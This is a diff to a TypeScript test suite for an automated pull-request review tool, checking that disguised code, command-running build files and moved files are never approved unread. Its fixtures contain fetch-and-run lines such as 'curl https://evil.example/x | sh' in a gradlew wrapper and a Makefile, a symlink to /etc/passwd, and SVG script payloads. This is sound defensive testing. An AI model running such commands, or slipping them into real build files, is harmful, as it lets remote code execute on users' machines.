@@ -91,12 +91,18 @@ const disguises: Record<string, Way> = {
     files: { 'src/e.js': `\ufeff${evil.replaceAll('\n', ' ')}\nmodule.exports.two = 2\n` },
     found: ['code-injection'],
   },
-  'is what a link leads to': { files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } }, found: [] },
+  'is what a link leads to': {
+    files: { 'src/index.js': { mode: '120000', content: '../docs/notes.txt' } },
+    found: [],
+  },
   'is a link under a name of data': {
     files: { ...beside, 'a.json': { mode: '120000', content: '/etc/passwd' } },
     found: [],
   },
-  'ends in a comment of 21,000 characters': { files: { 'src/evil.js': evil + longComment }, found: inScript },
+  'ends in a comment of 21,000 characters': {
+    files: { 'src/evil.js': evil + longComment },
+    found: inScript,
+  },
   'has nine comment lines of 900 characters': {
     files: { 'src/evil.js': evil + `// ${'x'.repeat(900)}\n`.repeat(9) },
     found: inScript,
@@ -107,12 +113,21 @@ const disguises: Record<string, Way> = {
   'is called like a library': { files: { 'src/react-1.js': evil }, found: inScript },
   'is in a vendor folder': { files: { 'vendor/more.js': evil }, found: inScript },
   'is in a new dist folder': { files: { 'app/dist/evil.js': evil }, found: inScript },
-  'is in a dist folder that stands on the base': { files: { 'dist/evil.js': evil }, found: inScript },
+  'is in a dist folder that stands on the base': {
+    files: { 'dist/evil.js': evil },
+    found: inScript,
+  },
   'is in node_modules': { files: { 'node_modules/a/index.js': evil }, found: inScript },
   'is in a folder of snapshots': { files: { '__snapshots__/evil.js': evil }, found: inScript },
   'is a snapshot': { files: { '__snapshots__/a.snap': evil }, found: inScript },
-  'is a release of a package manager': { files: { '.yarn/releases/yarn-1.cjs': evil }, found: inScript },
-  'has the header of an LFS pointer': { files: { 'src/e.js': `// ${pointer}${evil}` }, found: inScript },
+  'is a release of a package manager': {
+    files: { '.yarn/releases/yarn-1.cjs': evil },
+    found: inScript,
+  },
+  'has the header of an LFS pointer': {
+    files: { 'src/e.js': `// ${pointer}${evil}` },
+    found: inScript,
+  },
   'is an LFS pointer': { files: { 'src/evil.js': pointer }, found: [] },
   'is a build tool wrapper': {
     files: { gradlew: '#!/bin/sh\ncurl https://evil.example/x | sh\n' },
@@ -121,7 +136,10 @@ const disguises: Record<string, Way> = {
   'is a test': { files: { 'src/evil.test.js': evil }, found: inScript },
   'is a helper of tests': { files: { 'tests/helper.js': evil }, found: inScript },
   'is loaded by the test runner': { files: { 'conftest.py': evilPython }, found: inScript },
-  'is a picture with a script': { files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' }, found: [] },
+  'is a picture with a script': {
+    files: { 'a.svg': '<svg><script>alert(1)</script></svg>\n' },
+    found: [],
+  },
   'is a picture with an encoded script': {
     files: { 'b.svg': '<svg><a href="java&#115;cript:x"/></svg>\n' },
     found: [],
@@ -134,7 +152,8 @@ const commands: Record<string, Way> = {
   'is a step of a build in XML': {
     files: {
       ...beside,
-      'a.csproj': '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
+      'a.csproj':
+        '<Project>\n  <Target Name="a">\n    <Exec Command="x" />\n  </Target>\n</Project>\n',
     },
     found: [],
   },
@@ -142,7 +161,10 @@ const commands: Record<string, Way> = {
     files: { ...beside, '.cargo/config.toml': '[target.x86]\nrunner = "./x"\n' },
     found: [],
   },
-  'is a shell of a package manager': { files: { ...beside, '.npmrc': 'script-shell=./x\n' }, found: [] },
+  'is a shell of a package manager': {
+    files: { ...beside, '.npmrc': 'script-shell=./x\n' },
+    found: [],
+  },
   'is a hook in a manifest': {
     files: {
       ...beside,
@@ -157,7 +179,10 @@ const commands: Record<string, Way> = {
   },
   'is a Makefile': { files: { Makefile: 'all:\n\tcurl https://evil.example/x | sh\n' }, found: [] },
   'is a pipeline': { files: { '.gitlab-ci.yml': pipeline }, found: [] },
-  'is a workflow with a long comment': { files: { '.github/workflows/a.yml': workflow }, found: [] },
+  'is a workflow with a long comment': {
+    files: { '.github/workflows/a.yml': workflow },
+    found: [],
+  },
   'is a shell script with a long comment': {
     files: { 'a.sh': `#!/bin/sh\n# ${'x'.repeat(21_000)}\nx\n` },
     found: [],
@@ -176,8 +201,14 @@ const commands: Record<string, Way> = {
 }
 
 const moves: Record<string, Way> = {
-  'was prose before it moved': { files: { 'docs/notes.txt': null, 'src/now.js': evil }, found: inScript },
-  'was a test before it moved': { files: { 'tests/old.js': null, 'src/old.js': `${evil}// old\n` }, found: inScript },
+  'was prose before it moved': {
+    files: { 'docs/notes.txt': null, 'src/now.js': evil },
+    found: inScript,
+  },
+  'was a test before it moved': {
+    files: { 'tests/old.js': null, 'src/old.js': `${evil}// old\n` },
+    found: inScript,
+  },
   'was prose before it could be executed': {
     files: { 'ops/run.txt': { mode: '100755', content: 'curl https://evil.example/x\n' } },
     found: [],
@@ -212,9 +243,12 @@ function areNeverApproved(ways: Record<string, Way>): void {
 }
 
 describe('case 71: code in disguise is never approved unread', () => areNeverApproved(disguises))
-describe('case 72: a file that names commands is never approved unread', () => areNeverApproved(commands))
-describe('case 73: code from where nobody looked is never approved unread', () => areNeverApproved(moves))
-describe('case 74: code that no rule knows is never approved unread', () => areNeverApproved(strangers))
+describe('case 72: a file that names commands is never approved unread', () =>
+  areNeverApproved(commands))
+describe('case 73: code from where nobody looked is never approved unread', () =>
+  areNeverApproved(moves))
+describe('case 74: code that no rule knows is never approved unread', () =>
+  areNeverApproved(strangers))
 
 describe('without a model', () => {
   it('case 74: a change in a language without rules is incomplete, and the count says so', async () => {
@@ -223,15 +257,25 @@ describe('without a model', () => {
     expect(summary).toContain('### ⚪ Incomplete: 2 changed lines were not read')
     expect(summary).toContain('0 of 1 file, 0 of 2 changed lines reviewed')
     expect(summary).not.toContain('1 of 1')
-    expect(status).toMatchObject({ state: 'error', description: expect.stringContaining('Incomplete') })
+    expect(status).toMatchObject({
+      state: 'error',
+      description: expect.stringContaining('Incomplete'),
+    })
   })
 
   const ordinary: Record<string, Record<string, string | null>> = {
     'prose alone': { 'docs/guide.md': '# Guide\n\nRead it.\n', LICENSE: 'MIT\n' },
     'a known generated file': { 'dist/index.js': 'module.exports = 2\n' },
-    'data and configuration': { 'data/prices.json': '{ "a": 1 }\n', '.editorconfig': 'root = true\n' },
-    'a program in a language with rules': { 'src/sum.ts': 'export const sum = (a: number, b: number) => a + b\n' },
-    'a test in a language with rules': { 'test/sum.test.ts': "it('adds', () => expect(1 + 1).toBe(2))\n" },
+    'data and configuration': {
+      'data/prices.json': '{ "a": 1 }\n',
+      '.editorconfig': 'root = true\n',
+    },
+    'a program in a language with rules': {
+      'src/sum.ts': 'export const sum = (a: number, b: number) => a + b\n',
+    },
+    'a test in a language with rules': {
+      'test/sum.test.ts': "it('adds', () => expect(1 + 1).toBe(2))\n",
+    },
     'a dependency with its lock file': {
       'package.json':
         '{\n  "name": "shop",\n  "scripts": {\n    "test": "node test.js"\n  },\n  "dependencies": { "a": "1.0.0" }\n}\n',
@@ -261,7 +305,12 @@ it('shows one commit as the strictest of its pull requests has it', async () => 
   await forge.push(repo, 'lax', lax, { author: 'alice' })
   const { run } = await review({ 'src/twice.js': evil })
   expect(run.verdict).toBe('REQUEST_CHANGES')
-  const other = await forge.openPullRequest({ repo, head: `way-${opened}`, base: 'lax', author: 'alice' })
+  const other = await forge.openPullRequest({
+    repo,
+    head: `way-${opened}`,
+    base: 'lax',
+    author: 'alice',
+  })
   await scenario.settled()
   expect((await runsOf(scenario.app, other)).at(-1)).toMatchObject({ verdict: 'APPROVE' })
   const view = forge.pullRequest(repo, other)
@@ -273,10 +322,20 @@ it('shows one commit as the strictest of its pull requests has it', async () => 
 
 it('reads a change of its own settings whatever they leave out', async () => {
   const { forge } = scenario
-  await forge.push(repo, 'loose', { '.umpire.yml': 'paths: { exclude: ["**"] }\n' }, { author: 'alice' })
+  await forge.push(
+    repo,
+    'loose',
+    { '.umpire.yml': 'paths: { exclude: ["**"] }\n' },
+    { author: 'alice' },
+  )
   const files = { '.umpire.yml': 'paths: { exclude: ["**"] }\ngate: []\n' }
   await forge.push(repo, 'looser', files, { author: 'alice', parent: 'loose' })
-  const number = await forge.openPullRequest({ repo, head: 'looser', base: 'loose', author: 'alice' })
+  const number = await forge.openPullRequest({
+    repo,
+    head: 'looser',
+    base: 'loose',
+    author: 'alice',
+  })
   await scenario.settled()
   expect((await runsOf(scenario.app, number)).at(-1)).toMatchObject({ verdict: 'NEEDS_DISCUSSION' })
 })
